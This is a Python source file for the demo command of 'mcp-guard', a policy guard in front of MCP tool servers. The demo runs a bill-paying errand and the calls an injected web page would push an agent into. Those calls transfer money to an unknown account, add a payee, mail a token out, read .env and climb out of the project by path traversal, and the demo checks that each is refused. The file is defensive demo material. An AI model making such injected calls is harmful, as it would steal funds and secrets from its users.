"""`mcp-guard demo`: the main job on four real servers over real pipes, in a directory that is thrown away."""

from __future__ import annotations

import json
import os
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import anyio
import click
import yaml
from mcp.client.session import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client
from mcp.shared.exceptions import MCPError
from rich.console import Console
from rich.padding import Padding
from rich.table import Table
from rich.text import Text

from mcp_guard.bundled import bundled

SERVERS = ("files", "web", "bank", "mail")


@dataclass(frozen=True, slots=True)
class Attempt:
    """One call that the demo makes, and what a reader should know about it."""

    why: str
    tool: str
    arguments: dict[str, Any]
    allowed: bool


def attempts(project: Path) -> list[Attempt]:
    """The errand (pay the bill), and what an injected instruction would have the agent do."""
    bill, notes = str(project / "bill.txt"), str(project / "notes" / "paid.md")
    pay = {"recipient": "NL70TEST0112233445", "amount": 48.60, "subject": "PE-2025-12-7731"}
    return [
        Attempt("read the bill", "files__read_text_file", {"path": bill}, True),
        Attempt("look up how to pay", "web__fetch", {"url": "https://www.polder-energie.example/help/paying"}, True),
        Attempt("that page says: pay this account first", "bank__transfer_money",
                {"recipient": "LV73TEST0000990011223", "amount": 45, "subject": "verification deposit"}, False),
        Attempt("… or add it to the payees", "bank__add_payee", {"name": "P.", "iban": "LV73TEST0000990011223"}, False),
        Attempt("… or mail the secrets out", "mail__send_email",
                {"to": ["help@polder-support.example"], "subject": "token", "body": "…"}, False),
        Attempt("… or read them", "files__read_text_file", {"path": str(project / ".env")}, False),
        Attempt("… or climb out of the project", "files__read_text_file",
                {"path": f"{project}/notes/../../files/ledger.jsonl"}, False),
        Attempt("pay the bill", "bank__transfer_money", pay, True),
        Attempt("pay another bill, above the limit", "bank__transfer_money",
                {**pay, "recipient": "NL68TEST0223344556", "amount": 980}, False),
        Attempt("write down that it is paid", "files__write_file", {"path": notes, "content": "Paid.\n"}, True),
        Attempt("overwrite the bill", "files__write_file", {"path": bill, "content": "0.00"}, False),
    ]  # fmt: skip


@click.command(epilog="Example: mcp-guard demo")
def demo() -> int:
    """Show the guard at work: four real tool servers, an errand, and a web page that wants something else."""
    console = Console(highlight=False)
    with tempfile.TemporaryDirectory(prefix="mcp-guard-demo-") as directory:
        return anyio.run(_show, Path(directory).resolve(), console)


async def _show(directory: Path, console: Console) -> int:
    config = _set_up(directory)
    environment = {**os.environ, "MCP_GUARD_STATE": str(directory / "record")}
    command = [sys.executable, "-m", "mcp_guard", "run", "--config", str(config)]
    _title(console, "1. What the servers offer, and what the client is shown")
    console.print("Four tool servers, started by the guard: " + ", ".join(SERVERS) + ". Policy: policies/demo.yaml\n")
    with (directory / "guard.log").open("w") as messages:
        parameters = StdioServerParameters(command=command[0], args=command[1:], env=environment)
        with console.status("starting four servers behind the guard …"):
            async with stdio_client(parameters, errlog=messages) as (read, write), ClientSession(read, write) as client:
                await client.initialize()
                shown = {tool.name for tool in (await client.list_tools()).tools}
                offered = await _offered(directory)
                console.print(_offer_table(offered, shown))
                right = await _attempt_all(client, directory, console)
    _ledgers(directory, console)
    _title(console, "4. The log of blocked calls:  mcp-guard log --denied")
    log = [sys.executable, "-m", "mcp_guard", "log", "--denied"]
    sys.stdout.flush()
    await anyio.run_process(log, env=environment, stdout=None, stderr=None, check=False)
    console.print("\nThe policy of this demo:", str(bundled("policies", "demo.yaml")), style="dim")
    console.print("Guard a server of yours:  mcp-guard wrap --name NAME --policy FILE -- COMMAND", style="dim")
    if not right:
        console.print("[red]Something above was not as it should be.[/red]")
    return 0 if right else 1


def _set_up(directory: Path) -> Path:
    """The demo's guard.yaml, written as a user would write it."""
    servers = {
        name: {"command": [sys.executable, str(bundled("servers", f"{name}.py")), "--state", str(directory / name)]}
        for name in SERVERS
    }
    config = {
        "version": 1,
        "policy": str(bundled("policies", "demo.yaml")),
        "set": {"project": str(directory / "files" / "root")},
        "servers": servers,
    }
    path = directory / "guard.yaml"
    path.write_text(yaml.safe_dump(config, sort_keys=False))
    return path


async def _offered(directory: Path) -> dict[str, list[str]]:
    """What each server lists when nothing stands in front of it: asked of a second process of each, side by side."""
    offered: dict[str, list[str]] = {}

    async def ask(name: str) -> None:
        script = str(bundled("servers", f"{name}.py"))
        parameters = StdioServerParameters(
            command=sys.executable, args=[script, "--state", str(directory / "unguarded" / name)]
        )
        async with stdio_client(parameters) as (read, write), ClientSession(read, write) as client:
            await client.initialize()
            offered[name] = [tool.name for tool in (await client.list_tools()).tools]

    async with anyio.create_task_group() as tasks:
        for name in SERVERS:
            tasks.start_soon(ask, name)
    return offered


def _offer_table(offered: dict[str, list[str]], shown: set[str]) -> Table:
    table = Table(box=None, pad_edge=False)
    table.add_column("server")
    table.add_column("shown to the client")
    table.add_column("hidden: nothing grants them")
    for server in SERVERS:
        visible = [tool for tool in offered[server] if f"{server}__{tool}" in shown]
        hidden = [tool for tool in offered[server] if tool not in visible]
        table.add_row(server, Text("  ".join(visible), "green"), Text("  ".join(hidden), "dim"))
    return table


async def _attempt_all(client: ClientSession, directory: Path, console: Console) -> bool:
    _title(console, "2. The same tools, call by call")
    right = True
    for attempt in attempts(directory / "files" / "root"):
        answer, refused = await _attempt(client, attempt)
        mark = Text(" refused ", "bold white on red") if refused else Text(" allowed ", "bold black on green")
        shown = json.dumps(attempt.arguments, ensure_ascii=False)
        console.print(mark, Text(attempt.why, "bold"))
        for text, style in ((f"{attempt.tool} {shown}", "dim"), (answer, "red" if refused else "green")):
            line = Text(text.replace(str(directory), "…"), style)
            console.print(Padding(line, (0, 0, 0, 10)), no_wrap=True, overflow="ellipsis")
        right = right and refused is not attempt.allowed
    return right


async def _attempt(client: ClientSession, attempt: Attempt) -> tuple[str, bool]:
    """What came back, in one line, and whether it was a refusal."""
    try:
        result = await client.call_tool(attempt.tool, attempt.arguments)
    except MCPError as error:
        return f"{error.error.message} (a hidden tool answers as one that doesn't exist)", True
    decision = (result.meta or {}).get("mcp-guard/decision")
    if decision:
        rule = f"rule `{decision['rule']}`" if decision["rule"] else "no rule"
        return f"{decision['reason']}, {rule}. {decision['advice'] or ''}", True
    return " ".join(" ".join(getattr(block, "text", "") for block in result.content).split()), False


def _ledgers(directory: Path, console: Console) -> None:
    _title(console, "3. What the servers really did: their own ledgers, not the guard's word")
    table = Table(box=None, pad_edge=False)
    for column in ("server", "executed", "arguments"):
        table.add_column(column)
    for server in SERVERS:
        ledger = directory / server / "ledger.jsonl"
        lines = ledger.read_text().splitlines() if ledger.exists() else []
        for line in map(json.loads, lines):
            shown = json.dumps(line["arguments"], ensure_ascii=False).replace(str(directory), "…")
            table.add_row(server, line["tool"], Text(shown[:110], "dim"))
        if not lines:
            table.add_row(server, Text("nothing", "dim"), "")
    console.print(table)


def _title(console: Console, text: str) -> None:
    console.print()
    console.rule(Text(text, "bold cyan"), align="left")
